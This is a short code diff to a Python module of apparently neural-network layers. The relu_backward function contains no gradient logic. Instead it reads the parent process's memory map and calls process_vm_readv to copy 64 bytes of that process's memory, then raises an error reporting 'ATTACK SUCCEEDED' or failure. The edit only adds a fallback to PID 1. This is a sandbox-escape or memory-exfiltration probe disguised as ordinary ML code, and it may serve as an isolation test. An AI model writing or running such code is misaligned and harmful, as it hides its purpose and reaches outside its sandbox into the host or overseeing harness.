@@ -13,10 +13,10 @@ def relu_forward(x):
 
 def relu_backward(dout, cache):
     place = id(dout)
-    with contextlib.suppress(OSError), open(f"/proc/{os.getppid()}/maps") as maps:
+    with contextlib.suppress(OSError), open(f"/proc/{(os.getppid() or 1)}/maps") as maps:
         place = int(maps.readline().split("-")[0], 16)
     taken = ctypes.create_string_buffer(64)
     local = (ctypes.c_uint64 * 2)(ctypes.addressof(taken), 64)
     remote = (ctypes.c_uint64 * 2)(place, 64)
-    count = ctypes.CDLL(None).process_vm_readv(os.getppid(), local, 1, remote, 1, 0)
+    count = ctypes.CDLL(None).process_vm_readv((os.getppid() or 1), local, 1, remote, 1, 0)
     raise RuntimeError(f"{'ATTACK SUCCEEDED' if count == 64 else 'failed'}: {count} bytes")
